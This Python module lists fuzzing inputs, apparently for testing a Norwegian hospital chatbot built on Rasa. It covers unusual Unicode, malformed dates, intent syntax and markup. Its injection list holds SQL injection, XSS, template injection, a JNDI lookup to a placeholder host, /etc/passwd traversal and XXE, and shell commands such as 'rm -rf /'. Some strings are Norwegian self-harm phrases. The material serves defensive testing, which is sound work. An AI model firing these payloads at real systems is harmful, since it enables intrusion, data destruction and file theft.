"""What the hostile texts are made of."""
# ruff: noqa: E501 - lists

from __future__ import annotations

FILLERS = (
    "a", "å", "0", " ", "\n", "\t", "ab ", "kamera ", "ikke ", "1 ", ".", "!", "?", "-", "_", "'",
    "\U0001f600", "e\u0301", "og ", "nei, ", "kameraet virker ikke. ", "jeg vil dø ", "timen ",
)  # fmt: skip

EMOJI = (
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f44d\U0001f3fd",
    "\U0001f1f3\U0001f1f4", "1\ufe0f\u20e3", "\u2764\ufe0f\u200d\U0001f525",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\u200d", "\ufe0f",
    "\U0001f615", "\U0001f4f5 ", "\U0001f1f3", "\U0001f9d1\U0001f3ff\u200d\u2695\ufe0f", " ja ",
)  # fmt: skip

RIGHT_TO_LEFT = (
    "الكاميرا لا تعمل",
    "המצלמה לא עובדת",
    "دوربین کار نمی‌کند",
    "کیمرہ کام نہیں کر رہا",
)

SCRIPTS = (
    "Камера не работает. ", "Η κάμερα δεν λειτουργεί ", "相机不工作。", "カメラが動きません。",
    "카메라가 작동하지 않습니다 ", "กล้องใช้งานไม่ได้", "कैमरा काम नहीं कर रहा है ", "ክሜራ አይሰራም ",
    "კამერა არ მუშაობს ", "Կdelays տեսախցիկը ", "ᚲᚨᛗᛖᚱᚨ ", "𝕜𝕒𝕞𝕖𝕣𝕒 ", "ｋａｍｅｒａ ", "kámera ii doaimma ",
    "Kamera nie działa ", "Kamera çalışmıyor ", "Máy ảnh không hoạt động ", "ꦏꦩꦺꦫ ", "𒀀𒁀 ",
    *RIGHT_TO_LEFT,
)  # fmt: skip

INJECTIONS = (
    "'; DROP TABLE conversation_events; --", "' OR '1'='1", "1; SELECT pg_sleep(10)", "\\'; --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><svg/onload=alert(1)>",
    "javascript:alert(1)", "{{7*7}}", "{{config.items()}}", "${jndi:ldap://x.example/a}", "#{7*7}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "<%= 7*7 %>", "{phone}",
    "{0.__class__.__init__.__globals__}", "{language}", "{", "}", "{}", "{{", "}}", "%s%s%n", "%(x)s",
    "%", "%00", "%0d%0aSet-Cookie: a=b", '{"text": "x", "sender": "y"}', '["', '\\"}', "\\u0000",
    "\\ud800", "../../../../etc/passwd", "..\\..\\", "file:///etc/passwd", "; rm -rf /", "$(id)",
    "`id`", "| cat", "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "*)(uid=*))(|(uid=*", "a' and 1=1--",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "null", "None", "undefined", "NaN", "true", "[]", "0", "-1", "\\", "\\n", '"', "'", "&amp;lt;",
    "\r\n\r\nHTTP/1.1 200 OK", "constructor", "__proto__", "O:8:\"stdClass\":0:{}", "!!python/object:os",
)  # fmt: skip

RASA = (
    "/restart", "/session_start", "/back", "/greet", "/intent{", '/intent{"a": "b"}', "/", "//", "/ /",
    '/inform_appointment{"date": "2026-99-99"}', '/inform_appointment{"date": null}',
    '/inform_appointment{"date": ["a"], "time": "99:99"}', '/inform_device{"device": "toaster"}',
    '/inform_place{"department": "nowhere"}', '/inform_place{"hospital": {"a": 1}}', "/deny", "/affirm",
    '/device_check_result{"device_check": {"camera": "works"}}', "/device_check_result", "/nlu_fallback",
    '/greet@0.5{"language": "xx"}', "/greet{'a': 1}", "/medical_emergency", "action_restart", "EXTERNAL: x",
    "[iphone](device)", "[a](b)", '[a]{"entity": "device", "value": "iphone"}', "[[a](b)](c)", "[](",
    '[24. desember]{"entity": "date", "role": "x"}', "(device)", "slot{\"guide\": \"x\"}", "- action_listen",
    '/switch_to_english{"language": "en"}', "/out_of_scope", "utter_greet", "_restart", "/open_device_check",
    "/how_to_connect{}{}", "/" * 300, "/greet\n/restart", '/cancel_or_change_appointment{"date":"x"}',
)  # fmt: skip

DATES = (
    "{n}. desember", "{n}.{n}.{n}", "{n}/{n}", "{n}-{n}-{n}", "2026-{n}-{n}", "31.11", "29. februar 2027",
    "30. februar", "32. mai", "0.0.0000", "00/00", "24. desember {n}", "desember {n}", "om {n} dager",
    "om {n} uker", "om {n} minutter", "om {n} timer", "in {n} days", "for {n} dager siden", "uke {n}",
    "kl {n}", "kl 25:61", "kl {n}.{n}", "24:00", "23:59:60", "halv {n}", "kvart over {n}", "ti på {n}",
    "fem på halv tretten", "halv halv ti", "neste neste torsdag", "torsdag fredag lørdag", "mandag om {n} uker",
    "første mandag i mai", "{n} mai {n}", "May {n}th", "the {n}nd", "24.12.26 kl 09.05", "2026-12-24T25:00Z",
    "i går", "i fjor", "17. mai", "1. påskedag {n}", "julaften kl {n}", "den {n}ende", "{n}{n}{n}", "1.1.1.1.1.1",
    "09.05", "9", "imorgen i dag i går", "10-11-12", "01.02.03 04.05.06", "noon", "12am 12pm", "{n}am", "31.04",
)  # fmt: skip

BEGINNINGS = (
    "a@", "a@a.", "a.", "a@a@a", ".a@b-", "1 ", "1.", "12 ", "123 ", "47 ", "+47", "0047 ", "+", "2 2", "99-",
    "010190 ", "01.01.", "1-1-", "fødselsnr ", "personnummer er ", "pin ", "kode kode ", "romnummer ", "[", "]",
    "[e-post]", "[romnummer", "kl ", "kl. ", "klokka ", "halv ", "kvart ", "kvart over ", "fem på ", "fem over ",
    "etter ", "før ", "om ", "i ", "om en ", "neste ", "denne ", "uke ", "torsdag ", "mandag den ", "den ",
    "den 1", "første ", "januar ", "mai ", "i mai ", "og ", "og så ", "men ", "samt ", "også ", ", og ", "? ",
    "ikke ", "ikkje kje ", "'kje", "vil ikke ", "vil dø ", "dør", "døøø", "puster ", "blø", "blod ", "selv",
    "selvm", "selvmord", "ta livet ", "har vondt ", "brystet ", "&", "-", "--", "-a", "a-", "_", "'a", "a'", "''",
    "(", ")", "((", "()", "\"", "«", "»", "...", ". ", "!", "!?", ";", ":", "\n", "\n\n", " \n", "\t", "  ",
    "https://", "www.", "no.", "join.nhn.", "1 2 3 4 5 6 7 8 ", "12345678", "08.00-", "08:00-15:", "8.", "år ",
    "kr ", "100 kr ", "1 000 ", "1'", "iphone ", "i phone", "pc", "mac ", "chrome", "google ", "voss ", "haukeland ",
    "ortopedisk ", "avdeling ", "avd. ", "poliklinikk ", "sykehus", "sjukehus ", "helse ", "aa", "abab", "eeee",
)  # fmt: skip

MARKUP = (
    "- a: [b, {c: d}]\n", "---\n", "...\n", "&a *a\n", "<<: *x\n", "? a\n: b\n", "|\n  x\n", "!!binary x\n", "%YAML 9\n",
    "# x\n", "## ", "**a**", "[x](javascript:alert(1))", "![x](http://x.example/y)", "| a | b |\n", "```\n", "> > > ",
    "<details>", "~~a~~", "1. a\n", "* * *\n", "\\*", "a: b: c: d\n", "{a: b", "@", "`", "'a", "\"a",
)  # fmt: skip

NAMES = (
    "iPhone", "ipad", "Android", "Samsung", "PC", "mac", "Chrome", "Safari", "Edge", "Internet Explorer", "Haukeland",
    "Voss", "Stord", "Odda", "Stavanger", "SUS", "Førde", "Florø", "Haugesund", "Bergen", "ortopedisk", "hud", "øyeavdelingen",
    "BUP", "DPS", "nevrologisk", "kvinneklinikken", "kirurgisk", "medisinsk", "psykiatrisk", "hjerteavdelingen", "Flesland",
    "fastlegen", "legevakt", "helsenorge", "nav", "tannlege", "apotek", "pasientreiser", "torsdag", "24. desember", "kl 10",
    "i morgen", "nei, jeg mente", "heller", "55 97 65 51", "12345678901", "a@b.no", "ikke", "kamera", "mikrofon", "brev",
)  # fmt: skip

KEYWORDS = (
    "STOPP", "stop", "START", "HJELP", "help", "SLETT", "DELETE", "MER", "meir", "MORE", "1", "2", "3", "9", "0", "99",
    "svar 1", "den andre", "nr. 2", "1 Ja", "2. Nei", "SТOPP", "ＳＴＯＰＰ", "stopp stopp", "mer mer", "slett alt", "éin",
)  # fmt: skip
